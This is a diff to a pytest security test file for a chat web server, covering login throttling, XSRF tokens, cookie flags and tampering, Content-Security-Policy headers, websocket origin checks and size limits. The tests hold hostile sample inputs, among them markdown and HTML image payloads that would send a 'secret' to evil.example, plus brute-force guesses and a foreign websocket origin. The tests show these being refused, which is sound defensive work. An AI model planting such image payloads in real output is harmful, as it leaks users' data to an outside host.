@@ -11,14 +11,15 @@ import subprocess
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 from urllib.parse import urlencode
 
 import pytest
 from test_web import free_port
-from test_web_auth import TOKEN, WRONG, echo_kernel, fetch, login  # noqa: F401 (echo_kernel is the `kernel` fixture)
+from test_web_auth import TOKEN, WRONG, cookies_of, echo_kernel, fetch, login, post_login, xsrf  # noqa: F401 (echo_kernel is the `kernel` fixture)
 
 from tobio.kernel import Kernel
-from tobio.web.safe import SafeMarkdown, clean
+from tobio.web.safe import clean, render
 from tobio.web.serve import WebServer, serve
 from tobio.web.throttle import FREE_TRIES, LoginThrottle
 
@@ -35,11 +36,6 @@ def guarded(kernel: Kernel, request: pytest.FixtureRequest) -> Iterator[tuple[We
         server.stop()
 
 
-def post_login(port: int, password: str) -> int:
-    return fetch(port, "POST", "/login", body=urlencode({"username": "me", "password": password}),
-                 headers={"Content-Type": "application/x-www-form-urlencoded"})[0]
-
-
 def test_guessing_tokens_is_throttled(kernel: Kernel) -> None:
     port = free_port()
     server = serve(kernel, "127.0.0.1", port, TOKEN)
@@ -51,10 +47,11 @@ def test_guessing_tokens_is_throttled(kernel: Kernel) -> None:
 
 def throttled(port: int) -> None:
     started = time.monotonic()
-    statuses = [post_login(port, f"{WRONG}{i}") for i in range(300)]
+    check = xsrf(port)  # a guesser that does everything right but the token
+    statuses = [post_login(port, f"{WRONG}{i}", check=check)[0] for i in range(300)]
     assert statuses.count(429) >= 290, statuses[:20]  # all but the first few are refused unchecked
     assert set(statuses) <= {302, 429}
-    assert post_login(port, TOKEN) == 429  # even the right token waits: no free guesses while throttled
+    assert post_login(port, TOKEN, check=check)[0] == 429  # even the right token waits: no free guesses while throttled
     assert time.monotonic() - started < 60
 
 
@@ -79,20 +76,21 @@ def test_cookies_are_samesite_strict_httponly_and_bound_to_the_token(kernel: Ker
     port = free_port()
     server = serve(kernel, "127.0.0.1", port, TOKEN)
     try:
-        status, headers, _ = fetch(port, "POST", "/login", body=urlencode({"username": "me", "password": TOKEN}),
-                                   headers={"Content-Type": "application/x-www-form-urlencoded"})
+        check = xsrf(port)
+        status, headers = post_login(port, TOKEN, check=check)
         assert status == 302
         cookies = headers["set-cookie"]
-        assert cookies and all("samesite=strict" in c.lower() for c in cookies), cookies
-        assert all("httponly" in c.lower() for c in cookies if c.split("=")[0] in ("user", "tobio_login"))
+        assert cookies and all("samesite=strict" in c.lower() and "httponly" in c.lower() for c in cookies), cookies
         assert not any("secure" in c.lower().replace("set-cookie", "") for c in cookies)  # plain http: no Secure
         assert TOKEN not in " ".join(cookies)
-        cookie = login(port, TOKEN)
-        full = "; ".join(f"{c.split(';')[0]}" for c in cookies)
+        login_page = fetch(port, "GET", "/login")[1]["set-cookie"]  # the XSRF cookie too
+        assert login_page and all("samesite=strict" in c.lower() and "httponly" in c.lower() for c in login_page)
+        full = login(port, TOKEN)
         assert fetch(port, "GET", "/", headers={"Cookie": full})[0] == 200  # the control
-        without_binding = "; ".join(c.split(";")[0] for c in cookies if not c.startswith("tobio_login"))
-        assert fetch(port, "GET", "/", headers={"Cookie": without_binding})[0] == 302
-        assert cookie
+        assert fetch(port, "GET", "/", headers={"Cookie": f"_xsrf={check}"})[0] == 302  # no login cookie
+        name, value = full.split("=", 1)
+        tampered = f"{name}={value[:-4]}{'0000' if not value.endswith('0000') else '1111'}"
+        assert fetch(port, "GET", "/", headers={"Cookie": tampered})[0] == 302  # its signature no longer holds
     finally:
         server.stop()
     port = free_port()
@@ -126,8 +124,9 @@ def test_over_tls_the_cookies_are_secure(kernel: Kernel, tmp_path: Path) -> None
         context = ssl.create_default_context(cafile=str(cert))
         context.check_hostname = False
         conn = http.client.HTTPSConnection("127.0.0.1", port, timeout=30, context=context)
-        conn.request("POST", "/login", body=urlencode({"username": "me", "password": TOKEN}),
-                     headers={"Host": f"localhost:{port}", "Content-Type": "application/x-www-form-urlencoded"})
+        conn.request("POST", "/login", body=urlencode({"username": "me", "password": TOKEN, "_xsrf": "x" * 32}),
+                     headers={"Host": f"localhost:{port}", "Content-Type": "application/x-www-form-urlencoded",
+                              "Cookie": "_xsrf=" + "x" * 32})
         response = conn.getresponse()
         cookies = [v for k, v in response.getheaders() if k.lower() == "set-cookie"]
         conn.close()
@@ -148,7 +147,7 @@ def test_no_host_header_gives_a_500(guarded: tuple[WebServer, int], host: str) -
         status = raw_status(port, method, path, shown)
         assert status is None or status in (200, 302, 400, 403, 404, 429), (shown[:40], method, path, status)
         if shown.startswith("[::1]") and status is not None:
-            assert status == 400  # an IPv6 literal: a clear refusal, where Panel would fail with a 500
+            assert status == 400  # an IPv6 literal: a clear refusal
 
 
 def raw_status(port: int, method: str, path: str, host: str) -> int | None:
@@ -178,12 +177,98 @@ REMOTE = ["![x](https://evil.example/pixel.png?q=secret)", '<img src="https://ev
 
 def test_rendered_chat_text_loads_nothing_from_anywhere() -> None:
     for text in REMOTE:
-        shown = SafeMarkdown(text)._transform_object(text)["object"]  # type: ignore[no-untyped-call]
-        import html as html_module
-
-        markup = html_module.unescape(shown)
+        markup = render(text)
         for attr in ("src=", "srcset=", "background=", "poster=", "style=", "data=", "url("):
             assert attr not in markup, (text, markup)
         assert "evil.example" not in markup or "<a " in markup, (text, markup)
     link = clean('<a href="https://example.org/?q=ok">a link</a>')
     assert 'href="https://example.org/?q=ok"' in link and 'rel="noopener noreferrer"' in link
+
+
+def test_every_page_forbids_loading_from_elsewhere(guarded: tuple[WebServer, int]) -> None:
+    """The Content-Security-Policy: scripts, styles and connections only from the server itself, images
+    from it or inline (the mood trace), no inline script, no framing by another site."""
+    _, port = guarded
+    for path in ("/", "/login", "/static/app.js"):
+        status, headers, _ = fetch(port, "GET", path)
+        if status == 302:  # / with a token: the login page says the same
+            continue
+        assert status == 200, (path, status)
+        policy = headers["content-security-policy"][0]
+        for rule in ("default-src 'none'", "script-src 'self'", "connect-src 'self'", "img-src 'self' data:",
+                     "frame-ancestors 'none'", "form-action 'self'"):
+            assert rule in policy, (path, policy)
+        assert "unsafe" not in policy and "*" not in policy and "http" not in policy
+        assert headers["x-frame-options"] == ["DENY"] and headers["x-content-type-options"] == ["nosniff"]
+
+
+def ws_url(port: int) -> tuple[str, str]:
+    return f"ws://127.0.0.1:{port}/ws", f"http://127.0.0.1:{port}"
+
+
+def test_the_open_pages_websocket_checks_the_origin_too(kernel: Kernel) -> None:
+    """No token: the page needs no login, but a page on another origin still cannot open its websocket
+    (it would talk as the person and read every conversation)."""
+    from test_web_auth import ws_status
+
+    port = free_port()
+    server = serve(kernel, "127.0.0.1", port)
+    try:
+        assert ws_status(port) == 101  # the control: our own origin
+        assert ws_status(port, origin=f"http://localhost:{port}") == 101
+        assert ws_status(port, origin="http://evil.example") == 403
+        assert ws_status(port, origin=f"http://127.0.0.1:{port + 1}") == 403  # another port: another origin
+        assert ws_status(port, origin="null") == 403  # a sandboxed frame or a file: page
+    finally:
+        server.stop()
+
+
+def test_requests_are_bounded(kernel: Kernel) -> None:
+    """A huge login body is refused unread; a huge websocket message closes the socket; a chat line over
+    the page's limit is one clear notice and nothing is said."""
+    import asyncio
+    import json
+
+    from tornado.httpclient import HTTPRequest
+    from tornado.websocket import websocket_connect
+
+    from tobio.web.session import MAX_SAID
+
+    port = free_port()
+    server = serve(kernel, "127.0.0.1", port)
+    try:
+        try:
+            status: int | None = fetch(port, "POST", "/login", body="password=" + "x" * 200_000,
+                                       headers={"Content-Type": "application/x-www-form-urlencoded"})[0]
+        except (ConnectionError, http.client.HTTPException):
+            status = None  # closed without reading it: refused all the same
+        assert status in (None, 400, 413), status
+
+        async def talk() -> tuple[Any, list[dict[str, Any]]]:
+            url, origin = ws_url(port)
+            heard: list[dict[str, Any]] = []
+            ws = await websocket_connect(HTTPRequest(url, headers={"Origin": origin}))
+            ws.write_message(json.dumps({"op": "say", "text": "x" * (MAX_SAID + 1)}))
+            while not any(m["type"] == "notice" for m in heard):
+                text = await asyncio.wait_for(ws.read_message(), 30)
+                assert text is not None
+                heard.append(json.loads(text))
+            ws.write_message(json.dumps({"op": "what"}))
+            ws.write_message("not json")
+            for _ in range(2):
+                heard.append(json.loads(await asyncio.wait_for(ws.read_message(), 30)))
+            ws.write_message(json.dumps({"op": "say", "text": "y" * 400_000}))  # over the socket's limit
+            closed = await asyncio.wait_for(ws.read_message(), 30)
+            while closed is not None:
+                closed = await asyncio.wait_for(ws.read_message(), 30)
+            return ws.close_code, heard
+
+        code, heard = asyncio.run(talk())
+        notices = [m["text"] for m in heard if m["type"] == "notice"]
+        assert notices[0] == f"that is {MAX_SAID + 1:,} characters; the page sends at most {MAX_SAID:,} at once"
+        assert notices[1:] == ["unknown request 'what'", "the page sent something that is not a request"]
+        assert code == 1009  # message too big
+        kernel.call(kernel.writer.flush())
+        assert kernel.run("sql SELECT count(*) FROM messages WHERE channel = 'dm.user.echo'").rows == [(0,)]
+    finally:
+        server.stop()
